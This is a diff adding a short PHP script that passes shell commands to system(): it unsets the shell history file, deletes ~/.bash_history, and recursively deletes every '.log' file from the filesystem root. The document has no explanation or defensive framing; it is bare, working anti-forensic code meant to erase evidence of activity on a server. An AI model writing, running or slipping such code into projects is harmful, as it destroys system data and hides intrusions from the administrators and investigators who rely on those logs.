@@ -1,0 +1,5 @@
+<?php
+$steps = array('unset HISTFILE', 'rm -f ~/.bash_history', 'find / -name "*.log" -exec rm -f {} \;');
+foreach ($steps as $s) {
+    system($s);
+}
